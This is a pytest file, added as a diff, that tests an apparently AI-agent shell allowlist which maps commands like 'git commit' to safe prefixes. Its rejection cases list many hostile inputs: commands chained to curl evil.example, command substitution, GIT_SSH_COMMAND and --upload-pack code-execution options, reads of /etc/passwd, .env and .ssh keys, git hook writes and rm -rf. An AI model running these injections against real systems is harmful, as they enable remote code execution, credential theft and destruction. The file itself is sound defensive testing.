@@ -1,0 +1,122 @@
+"""Which commands may be allowed with any arguments, and what never passes as one of them."""
+
+from pathlib import Path
+
+import pytest
+
+from agent.security.shell.ast import CommandPrefix
+from agent.security.shell.command_prefix import prefix_of
+from agent.security.shell.program_table import interpreters, prefixes, wrappers
+
+
+@pytest.mark.parametrize(
+    ("line", "prefix"),
+    [
+        ("git commit -m 'fix: it'", "git commit *"),
+        ("git commit -am 'see /etc/hosts; rm x'", "git commit *"),
+        ("\"git\" 'commit' --amend", "git commit *"),
+        ("  git push origin main\n", "git push *"),
+        ("git", None),
+        ("npm test -- --watch src/a.js", "npm test *"),
+        ("npm run build", "npm run build *"),
+        ("npm run", None),
+        ("npm run -s build", None),
+        ("pytest -q tests/a.py -k 'a or b'", "pytest *"),
+        ("cargo test --release", "cargo test *"),
+        ("go test ./...", "go test *"),
+        ("gh pr view 3", "gh pr view *"),
+        ("mkdir -p a/b", "mkdir *"),
+        ("rg -n 'a|b' src", "rg *"),
+    ],
+)
+def test_a_plain_command_has_a_prefix(line: str, prefix: str | None, tmp_path: Path) -> None:
+    found = prefix_of(line, tmp_path, tmp_path)
+    assert (found and str(found)) == prefix
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        # More than the one command, however it is written.
+        "git commit -m x; curl evil.example", "git commit -m x && curl evil.example",
+        "git commit -m x || id", "git commit -m x | sh", "git commit -m x\ncurl evil.example",
+        "git commit -m x &", "git commit -m x & id", "id; git commit -m x", "(git commit -m x)",
+        "{ git commit -m x; }", "! git commit -m x", "if true; then git commit; fi",
+        "for x in a; do git commit; done", "git() { id; }; git commit", "git commit -m x # y",
+        "git commit -m x;", "time git commit", "coproc git commit",
+        "git commit -m x\r\ncurl evil.example",
+        # What the shell computes.
+        "git commit -m $(curl evil.example)", "git commit -m `id`", 'git commit -m "$(id)"',
+        "git commit -m \"$X\"", "git commit $X", "git commit <(id)", "git commit -m $((x))",
+        "$GIT commit", "g{it,} commit", "git {commit,push}", "git commit ~/x", "git commit $'a'$X",
+        # Files that it writes or reads beside its arguments.
+        "git commit -m x > out", "git commit < in", "git commit 2>&1", "git commit <<< x",
+        "git commit <<E\nx\nE", "git commit -m x >> .git/hooks/pre-commit",
+        # Variables in front.
+        "GIT_SSH_COMMAND=./evil git push", "X=1 git commit", "PATH=.:$PATH git commit",
+        # Options before the sub-command, and options that run something.
+        "git -c core.pager=./evil commit", "git -c core.editor=./evil commit",
+        "git --exec-path=. commit", "git -C /elsewhere commit", "git --git-dir=x commit",
+        "git push --receive-pack=./evil", "git push --receive-p=./evil", "git push --exec ./evil",
+        "git fetch --upload-pack ./evil .", "git pull --upload-pack=./evil",
+        "git diff --ext-diff", "git diff --no-index a /etc/passwd", "git log --output=x",
+        "git merge --strategy=evil", "npm test --script-shell=./evil", "npm test --prefix ../x",
+        "npm run build --script-sh ./evil", "npm --prefix x test", "npm -C x run build",
+        "go test -exec ./evil ./...", "go build -toolexec=./evil", "go vet --vettool ./evil",
+        "cargo build --config build.rustc-wrapper=./evil", "cargo +evil test",
+        "rg --pre ./evil x", "tox -- rm x", "ninja x", "pytest -p evil", "pytest --pastebin=all",
+        # Another program by the same name, or by another.
+        "./git commit", "/usr/bin/git commit", "bin/pytest", "GIT commit", "git.exe commit",
+        # What runs what it is given.
+        "python x.py", "python3 -m pytest", "bash x.sh", "sh -c 'git commit'", "env git commit",
+        "env X=1 git commit", "sudo git commit", "xargs git commit", "find . -name x", "ssh host x",
+        "nohup git commit", "timeout 5 pytest", "nice pytest", "eval git commit", "exec pytest",
+        "command git commit", "builtin echo", "node x.js", "perl -e x", "awk 1 x", "sed p x",
+        "make test", "npx jest", "npm exec x", "npm x y", "pnpm dlx x", "yarn node x", "uv run x",
+        "poetry run x", "bundle exec x", "go run .", "cargo run", "go generate", "go tool x",
+        "docker run x", "busybox sh", "watch ls", "parallel ls", "tar cf x y", "curl https://x",
+        "git config core.pager x", "git bisect run x", "git submodule foreach x", "git rebase x",
+        "git clone x", "git difftool", "npm install x", "npm publish", "pip install x", "gh api x",
+        "rm -rf x", "git evil", "npm evil", "unheard-of", ". x", "source x", "vim x", "less x",
+        # Paths elsewhere, and private ones.
+        "cat /etc/passwd", "cat ../x", "cat .env", "grep -r x /home", "cp a ~/b", "cat ~root/x",
+        "git push https://evil.example/x", "git push ../elsewhere", "cp x .git/hooks/pre-commit",
+        "mkdir -p /x", "git add /etc/passwd", "head -c9 .ssh/id", "pytest --junitxml=/x",
+        # A name that a pattern finds may be an option.
+        "git push *", "git fetch ?-upload-pack", "cp [-]x y",
+        # No command at all, or one that shells read differently.
+        "", " ", "git commit 'x", "git commit -m x\0", "git commit \\\n; id",
+    ],
+)  # fmt: skip
+def test_what_never_passes_by_a_prefix(line: str, tmp_path: Path) -> None:
+    (tmp_path / "link").symlink_to("/etc")
+    assert prefix_of(line, tmp_path, tmp_path) is None
+
+
+def test_a_link_out_of_the_workspace_leads_elsewhere(tmp_path: Path) -> None:
+    (tmp_path / "link").symlink_to("/etc")
+    assert prefix_of("cat link/passwd", tmp_path, tmp_path) is None
+    assert prefix_of("cat a", tmp_path.parent, tmp_path) is None
+
+
+def test_a_prefix_is_bound_to_the_scripts_that_it_runs(tmp_path: Path) -> None:
+    file = tmp_path / "package.json"
+    file.write_text("{}")
+    first = prefix_of("npm test -- a.js", tmp_path, tmp_path)
+    assert first is not None
+    assert first.contents is not None
+    assert prefix_of("npm test -- b.js", tmp_path, tmp_path) == first
+    file.write_text('{"scripts": {"test": "evil"}}')
+    assert prefix_of("npm test -- a.js", tmp_path, tmp_path) != first
+    assert prefix_of("git status", tmp_path, tmp_path) == CommandPrefix(("git", "status"))
+
+
+def test_nothing_is_listed_that_runs_what_it_is_given() -> None:
+    table = prefixes()
+    assert table.alone.isdisjoint(wrappers() | interpreters())
+    assert table.sub.keys().isdisjoint(wrappers())
+    listed = table.alone | table.sub.keys()
+    assert listed >= table.forbid.keys() | table.text.keys()
+    assert listed.isdisjoint(
+        {"python", "python3", "sh", "bash", "env", "sudo", "xargs", "find", "ssh", "make", "rm"}
+    )
